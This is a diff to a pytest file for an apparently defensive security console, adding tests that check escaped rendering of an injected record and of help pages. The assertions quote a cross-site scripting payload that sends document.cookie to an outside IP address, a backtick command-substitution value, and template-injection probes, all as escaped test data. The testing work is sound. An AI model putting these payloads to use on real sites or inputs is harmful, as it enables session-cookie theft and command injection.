@@ -6,8 +6,9 @@ from urllib.parse import quote
 import pytest
 from msgspec.structs import replace
 from tests.console.house import Client, House, build_house, enter
-from tests.console.sample_house import LOOKUP
+from tests.console.sample_house import LOOKUP, injected
 
+from nightlatch.checks import CHECKS
 from nightlatch.console.search import PAGE
 from nightlatch.exchange.judgement import Mode, Outcome
 
@@ -24,6 +25,7 @@ class Outline(HTMLParser):
         self.inline: list[str] = []
         self.unlabelled: list[str] = []
         self.ids: list[str] = []
+        self.words = ""
         self._labels: set[str | None] = set()
         self._fields: list[dict[str, str | None]] = []
         self._in_label = 0
@@ -48,6 +50,9 @@ class Outline(HTMLParser):
             self._labels.add(values.get("for"))
         if tag in ("input", "select", "textarea") and not self._in_label:
             self._fields.append(values)
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
 
     def handle_endtag(self, tag: str) -> None:
         if tag == "label":
@@ -143,6 +148,28 @@ def test_hostile_values_are_shown_as_text(client: Client, house: House) -> None:
         assert "<script>alert" not in text
         assert "{{7*7}}" in text
         assert "&lt;script&gt;" in text
+
+
+def test_an_attack_is_shown_as_the_text_it_is() -> None:
+    house, record = build_house(5, 0, CHECKS), injected()
+    house.recorder.take([record])
+    with enter(house) as client:
+        text = client.get(f"/requests/{record.id}").text
+    assert "<script>fetch" not in text
+    # Why it has its level, what would be done, and the check that failed.
+    assert text.count("<code>&lt;script&gt;fetch(&#39;//198.51.100.4/&#39;+document.cookie)") == 3
+    assert "<code>`id`</code> runs <code>id</code>" in text
+    assert "<code>attack:cross-site-scripting</code>" in text
+    assert "```" not in text
+
+
+def test_help_pages_show_code_as_code() -> None:
+    with enter(build_house(0, 0, CHECKS)) as client:
+        for check in CHECKS:
+            text = client.get(f"/checks/{check.id}").text
+            assert "```" not in text, check.id
+            assert '<pre class="code" tabindex="0"><code>' in text
+        assert "`" not in Outline(client.get("/checks").text).words
 
 
 def test_a_decision_is_saved(client: Client, house: House) -> None:
